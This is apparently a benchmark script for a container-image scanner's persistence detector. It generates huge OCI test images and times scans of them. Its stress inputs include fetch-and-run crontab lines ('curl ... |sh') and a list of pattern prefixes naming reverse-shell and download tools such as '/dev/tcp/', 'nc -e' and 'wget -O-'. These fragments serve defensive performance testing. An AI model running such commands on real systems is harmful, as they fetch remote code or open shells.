#!/usr/bin/env python3
"""Pathological inputs for the persistence detector (issue 4), and its cost
on the 1 GB benchmark image. Not part of ctest: the images are big (the
layers are generated while they stream to disk, never held in memory) and
the runs take minutes. Results go into docs/PERFORMANCE.md, section
"Persistence detector".

    bench/persistence.py [--moat build/moat] [--rounds 3] [--work DIR]
                         [--bench-layout ~/.cache/moat-bench/image-*/layout]

Each case is scanned three ways, rounds times each (order rotated):
  none     moat scan --no-vulns --scanners vuln   (no detector at all)
  persist  moat scan --no-vulns --scanners persistence
  sbom     moat sbom                               (the inventory baseline)
and the medians of wall and CPU (user+sys) time and the largest peak RSS
are printed, with what the detector reported, which the script checks:

  one-byte-2g   a 2 GiB file of one repeated byte under /tmp (no exec bits:
                the detector sniffs 4 bytes for an ELF header, the rest only
                streams past) and a 2 GiB file at /etc/cron.d/x (over the
                1 MiB cap: reported as not checked, never buffered)
  million       1,000,000 empty executable files under /tmp: 100 findings
                (MOAT_LIMIT_PERSIST_FS_FINDINGS) and one warning
  line-100m     a 100 MB single line at /etc/profile (over the cap) and
                under /tmp, and a 1 MiB single-line crontab (at the cap: the
                whole line goes through the shell lexer)
  prefixes      a 1 MiB init script and a 256 MiB file under /tmp made of
                the prefixes of the detector's patterns ("curl http://x | s",
                "/dev/tc", "base64 -", "$(", quotes...) and random bytes
"""

import argparse
import gzip
import hashlib
import json
import os
import random
import statistics
import subprocess
import sys
import tarfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(HERE)


class Repeat:
    """A file object of n bytes produced from a pattern, read in chunks."""

    def __init__(self, n, pattern=b"A"):
        self.left = n
        self.pattern = pattern
        self.pos = 0  # offset in the pattern
        reps = 2 + (1 << 20) // len(pattern)
        self.block = pattern * reps  # any slice [pos, pos+1 MiB) is in here

    def read(self, k=-1):
        k = self.left if k < 0 else min(k, self.left)
        out = []
        while k > 0:
            n = min(k, 1 << 20)
            out.append(self.block[self.pos:self.pos + n])
            self.pos = (self.pos + n) % len(self.pattern)
            self.left -= n
            k -= n
        return b"".join(out)


class Sink:
    """Gzip-compresses a tar stream to a file, hashing both forms."""

    def __init__(self, path):
        self.f = open(path, "wb")
        self.blob = hashlib.sha256()
        self.size = 0
        outer = self

        class Raw:
            def write(self, b):
                outer.blob.update(b)
                outer.size += len(b)
                outer.f.write(b)

            def flush(self):
                pass

        self.gz = gzip.GzipFile(fileobj=Raw(), mode="wb", compresslevel=1, mtime=0)
        self.diff = hashlib.sha256()

    def write(self, b):
        self.diff.update(b)
        self.gz.write(b)
        return len(b)

    def close(self):
        self.gz.close()
        self.f.close()


def info(name, size=0, mode=0o644, typ=tarfile.REGTYPE):
    ti = tarfile.TarInfo(name)
    ti.size, ti.mode, ti.type, ti.mtime = size, mode, typ, 0
    return ti


def layout(path, layers):
    """An OCI layout of gzip layers; layers: functions writing a TarFile."""
    blobs = os.path.join(path, "blobs", "sha256")
    os.makedirs(blobs, exist_ok=True)
    descs, diffs = [], []
    for fill in layers:
        tmp = os.path.join(path, "layer.tmp")
        sink = Sink(tmp)
        with tarfile.open(fileobj=sink, mode="w|", format=tarfile.PAX_FORMAT) as t:
            fill(t)
        sink.close()
        d = sink.blob.hexdigest()
        os.replace(tmp, os.path.join(blobs, d))
        descs.append({"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip",
                      "digest": "sha256:" + d, "size": sink.size})
        diffs.append("sha256:" + sink.diff.hexdigest())

    def put(obj):
        b = json.dumps(obj, sort_keys=True).encode()
        d = hashlib.sha256(b).hexdigest()
        with open(os.path.join(blobs, d), "wb") as f:
            f.write(b)
        return {"digest": "sha256:" + d, "size": len(b)}

    cfg = put({"architecture": "amd64", "os": "linux", "config": {},
               "rootfs": {"type": "layers", "diff_ids": diffs}})
    man = put({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
               "config": dict(cfg, mediaType="application/vnd.oci.image.config.v1+json"),
               "layers": descs})
    with open(os.path.join(path, "index.json"), "w") as f:
        json.dump({"schemaVersion": 2, "manifests": [dict(
            man, mediaType="application/vnd.oci.image.manifest.v1+json",
            annotations={"org.opencontainers.image.ref.name": "x"})]}, f)
    with open(os.path.join(path, "oci-layout"), "w") as f:
        f.write('{"imageLayoutVersion": "1.0.0"}')
    return "oci:%s:x" % path


def dirs(t, *names):
    for n in names:
        t.addfile(info(n, mode=0o755, typ=tarfile.DIRTYPE))


def one_byte(t):
    dirs(t, "tmp", "etc", "etc/cron.d")
    t.addfile(info("tmp/big", 2 << 30), Repeat(2 << 30, b"\x00"))
    t.addfile(info("etc/cron.d/x", 2 << 30), Repeat(2 << 30, b"*"))


def million(t):
    dirs(t, "tmp", "tmp/m")
    for i in range(1000000):
        t.addfile(info("tmp/m/%07d" % i, 0, 0o755))


def long_lines(t):
    dirs(t, "tmp", "etc", "etc/cron.d")
    t.addfile(info("etc/profile", 100 << 20), Repeat(100 << 20, b"curl http://h/x "))
    t.addfile(info("tmp/line", 100 << 20), Repeat(100 << 20, b"curl http://h/x "))
    line = b"* * * * * root curl http://203.0.113.5/x " + b"a" * ((1 << 20) - 50) + b"|sh\n"
    line = line[: 1 << 20]
    t.addfile(info("etc/cron.d/one", len(line)), Repeat(len(line), line))


def prefixes_blob(n, seed):
    rnd = random.Random(seed)
    pre = [b"curl http://h/x | s", b"/dev/tc", b"/dev/tcp/1.2.3.4/", b"base64 -", b"nc -e",
           b"$(", b"`", b"'", b"\"", b"bash -", b"<<", b"\\", b"(", b"{", b"LD_PRELOAD=",
           b"chmod +", b"python -c 'import socket", b"wget -O- ", b"| sh", b"\n"]
    out = bytearray()
    while len(out) < n:
        out += rnd.choice(pre)
        out += bytes(rnd.randrange(256) for _ in range(rnd.randrange(4)))
    return bytes(out[:n])


def prefixes(t):
    dirs(t, "tmp", "etc", "etc/init.d")
    small = prefixes_blob(1 << 20, 1)
    t.addfile(info("etc/init.d/x", len(small), 0o755), Repeat(len(small), small))
    t.addfile(info("tmp/p", 256 << 20), Repeat(256 << 20, small))


CASES = {
    "one-byte-2g": [one_byte],
    "million": [million],
    "line-100m": [long_lines],
    "prefixes": [prefixes],
}


def timed(cmd):
    t = subprocess.run(["/usr/bin/time", "-f", "%e %U %S %M"] + cmd, capture_output=True)
    last = t.stderr.decode().strip().splitlines()[-1].split()
    return t.returncode, t.stdout, float(last[0]), float(last[1]) + float(last[2]), int(last[3])


def measure(moat, target, rounds):
    modes = {
        "none": [moat, "scan", "--no-vulns", "--scanners", "vuln", "-f", "json", target],
        "persist": [moat, "scan", "--no-vulns", "--scanners", "persistence", "-f", "json", target],
        "sbom": [moat, "sbom", target],
    }
    samples = {m: [] for m in modes}
    report = None
    order = list(modes)
    for r in range(rounds):
        for m in order[r % 3:] + order[: r % 3]:
            code, out, wall, cpu, rss = timed(modes[m])
            if code not in (0, 1):
                sys.exit("%s failed (%d) on %s" % (m, code, target))
            samples[m].append((wall, cpu, rss))
            if m == "persist":
                report = json.loads(out)
    res = {m: (statistics.median(s[0] for s in v), statistics.median(s[1] for s in v),
               max(s[2] for s in v)) for m, v in samples.items()}
    return res, report


def check(name, report):
    """What the detector must have said on each case."""
    pf = [f for f in report["findings"] if f["kind"] == "persistence"]
    errs = [e for e in report["errors"] if e["source"] == "persistence"]
    if name == "one-byte-2g":
        ok = not pf and any(e["path"] == "/etc/cron.d/x" for e in errs)
    elif name == "million":
        ok = len(pf) == 100 and any("999900 more" in e["message"] for e in errs)
    elif name == "line-100m":
        ok = ([f["path"] for f in pf] == ["/etc/cron.d/one"] and
              any(e["path"] == "/etc/profile" for e in errs))
    elif name == "prefixes":
        ok = len([f for f in pf if f["path"] == "/etc/init.d/x"]) <= 16
    else:
        ok = True
    return ok, len(pf), len(errs)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--moat", default=os.path.join(REPO, "build", "moat"))
    ap.add_argument("--rounds", type=int, default=3)
    ap.add_argument("--work", default=os.path.expanduser("~/.cache/moat-bench/persistence"))
    ap.add_argument("--bench-layout", default=None, help="the 1 GB image's OCI layout (tag bench)")
    ap.add_argument("cases", nargs="*", default=list(CASES))
    a = ap.parse_args()
    os.makedirs(a.work, exist_ok=True)
    rows, failed = [], False
    for name in a.cases:
        path = os.path.join(a.work, name)
        if not os.path.exists(os.path.join(path, "index.json")):
            t = time.monotonic()
            target = layout(path, CASES[name])
            print("built %s in %.0f s" % (name, time.monotonic() - t), file=sys.stderr)
        else:
            target = "oci:%s:x" % path
        res, report = measure(a.moat, target, a.rounds)
        ok, nf, ne = check(name, report)
        failed |= not ok
        rows.append((name, res, "%d findings, %d warnings%s" % (nf, ne, "" if ok else " FAIL")))
    if a.bench_layout:
        res, report = measure(a.moat, "oci:%s:bench" % a.bench_layout, a.rounds)
        nf = len([f for f in report["findings"] if f["kind"] == "persistence"])
        rows.append(("bench 1 GB", res, "%d findings" % nf))
    print("| case | none wall / CPU | persistence wall / CPU | sbom wall / CPU | peak RSS "
          "none / persistence | detector said |")
    print("|---|---|---|---|---|---|")
    for name, r, said in rows:
        print("| %s | %.2f / %.2f s | %.2f / %.2f s | %.2f / %.2f s | %.0f / %.0f MiB | %s |" % (
            name, r["none"][0], r["none"][1], r["persist"][0], r["persist"][1], r["sbom"][0],
            r["sbom"][1], r["none"][2] / 1024, r["persist"][2] / 1024, said))
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
